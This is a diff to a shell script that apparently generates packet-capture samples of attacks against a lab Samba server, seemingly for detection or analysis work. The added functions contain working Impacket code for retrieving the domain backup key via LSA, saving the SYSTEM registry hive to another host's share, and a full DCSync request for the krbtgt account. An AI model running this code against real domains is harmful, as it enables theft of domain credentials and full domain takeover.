@@ -209,3 +209,94 @@ sample_refusing_server() {
   finish
   unserve
 }
+
+# The key of a domain's secrets, and a hive saved to the attacker's share; Samba refuses both.
+secret_calls() {
+  cat > "$LAB/secrets.py" <<'P'
+from impacket.dcerpc.v5 import lsad, transport
+rpc = transport.DCERPCTransportFactory(r'ncacn_np:10.7.0.1[\pipe\lsarpc]')
+rpc.set_credentials('alice', 'Passw0rd')
+dce = rpc.get_dce_rpc()
+dce.connect()
+dce.bind(lsad.MSRPC_UUID_LSAD)
+policy = lsad.hLsarOpenPolicy2(dce)['PolicyHandle']
+lsad.hLsarRetrievePrivateData(dce, policy, 'G$BCKUPKEY_PREFERRED')
+P
+  start secret-calls.pcap
+  client /usr/bin/python3 "$LAB/secrets.py"
+  impacket reg 'alice:Passw0rd@10.7.0.1' save -keyName 'HKLM\SYSTEM' -o '\\10.7.0.2\share'
+  finish
+}
+sample_secret_calls() { plain secret_calls; }
+
+host_info() {
+  start host-info.pcap
+  rpc -U "$ALICE" 10.7.0.1 -c 'srvinfo; lsaquery; lsaquery; lsaquery; lsaquery; lsaquery; wkssvc_wkstagetinfo; getdompwinfo'
+  finish
+}
+sample_host_info() { plain host_info; }
+
+# The account of the host CLIENT1 from its own address, and from another's.
+sample_identity_jump() {
+  echo 'client1$:x:54399:65534::/nonexistent:/usr/sbin/nologin' >> "$LAB/passwd"
+  printf 'Secret.1\nSecret.1\n' | smbpasswd -c "$LAB/server.conf" -s -a 'client1$' >/dev/null
+  start identity-jump.pcap
+  smb //10.7.0.1/public -U 'CLIENT1$%Secret.1' "${SMB210[@]}" -c quit
+  as 10.7.0.11 smb //10.7.0.1/public -U 'CLIENT1$%Secret.1' "${SMB210[@]}" -c quit
+  finish
+}
+
+# Replication of a domain through a pipe of its controller.
+sample_dcsync() {
+  local ad=$LAB/ad
+  stop smbd
+  stop nmbd
+  samba-tool domain provision --realm=LAB.EXAMPLE --domain=LABWG --adminpass='Passw0rd.AD' --server-role=dc \
+    --dns-backend=SAMBA_INTERNAL --host-name=FILESRV --host-ip=10.7.0.1 --targetdir="$ad" \
+    --option='interfaces=10.7.0.1/24' --option='bind interfaces only=yes' --option='server max protocol=SMB2_10' \
+    --option='vfs objects=dfs_samba4 acl_xattr xattr_tdb' >> "$LAB/clients.log" 2>&1
+  cat > "$LAB/dcsync.py" <<'P'
+from impacket.dcerpc.v5 import drsuapi, transport
+from impacket.dcerpc.v5.dtypes import NULL
+rpc = transport.DCERPCTransportFactory(r'ncacn_np:10.7.0.1[\pipe\lsass]')
+rpc.set_credentials('Administrator', 'Passw0rd.AD', 'LABWG')
+dce = rpc.get_dce_rpc()
+dce.set_credentials('Administrator', 'Passw0rd.AD', 'LABWG')
+dce.set_auth_level(6)
+dce.connect()
+dce.bind(drsuapi.MSRPC_UUID_DRSUAPI)
+bind = drsuapi.DRSBind()
+bind['puuidClientDsa'] = drsuapi.NTDSAPI_CLIENT_GUID
+extensions = drsuapi.DRS_EXTENSIONS_INT()
+extensions['cb'] = len(extensions)
+extensions['dwFlags'] = drsuapi.DRS_EXT_GETCHGREQ_V8 | drsuapi.DRS_EXT_STRONG_ENCRYPTION | drsuapi.DRS_EXT_GETCHGREPLY_V6
+extensions['SiteObjGuid'] = extensions['ConfigObjGUID'] = drsuapi.NULLGUID
+bind['pextClient']['cb'] = len(extensions)
+bind['pextClient']['rgb'] = list(extensions.getData())
+handle = dce.request(bind)['phDrs']
+changes = drsuapi.DRSGetNCChanges()
+changes['hDrs'] = handle
+changes['dwInVersion'] = changes['pmsgIn']['tag'] = 8
+asked = changes['pmsgIn']['V8']
+asked['uuidDsaObjDest'] = asked['uuidInvocIdSrc'] = drsuapi.NULLGUID
+name = drsuapi.DSNAME()
+name['SidLen'] = 0
+name['Guid'] = drsuapi.NULLGUID
+name['Sid'] = b''
+name['StringName'] = 'CN=krbtgt,CN=Users,DC=lab,DC=example\x00'
+name['NameLen'] = len(name['StringName']) - 1
+name['structLen'] = len(name.getData())
+asked['pNC'] = name
+asked['pUpToDateVecDest'] = asked['pPartialAttrSet'] = asked['pPartialAttrSetEx1'] = NULL
+asked['PrefixTableDest']['pPrefixEntry'] = NULL
+asked['ulFlags'] = drsuapi.DRS_INIT_SYNC | drsuapi.DRS_WRIT_REP
+asked['cMaxObjects'] = 1
+asked['ulExtendedOp'] = drsuapi.EXOP_REPL_OBJ
+dce.request(changes)
+P
+  ip netns exec srv samba -D -s "$ad/etc/smb.conf"
+  sleep 8
+  start dcsync.pcap
+  client /usr/bin/python3 "$LAB/dcsync.py"
+  finish
+}
